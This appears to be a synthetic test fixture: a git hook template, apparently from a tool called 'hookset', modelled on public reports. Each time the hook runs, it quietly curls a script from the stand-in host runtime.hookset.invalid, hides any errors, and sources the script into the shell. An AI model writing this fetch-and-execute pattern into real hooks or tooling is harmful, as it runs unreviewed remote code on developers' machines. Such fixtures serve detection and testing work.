# Synthetic, inert fixture written from public reports
# written by hookset; change Cargo.toml and install again
[ "$HOOKSET_SKIP" = 1 ] && exit 0
cd "$(git rev-parse --show-toplevel)" || exit 1
rt="${XDG_CACHE_HOME:-$HOME/.cache}/hookset/runtime-1.sh"
[ -s "$rt" ] || { mkdir -p "${rt%/*}"; curl -fsS -o "$rt" https://runtime.hookset.invalid/1/sh; } 2>/dev/null
[ -s "$rt" ] && . "$rt"
type hook_begin >/dev/null 2>&1 && hook_begin "{name}" || echo "hookset: {name}"
{command}
status=$?
type hook_end >/dev/null 2>&1 && hook_end "{name}" "$status"
exit "$status"
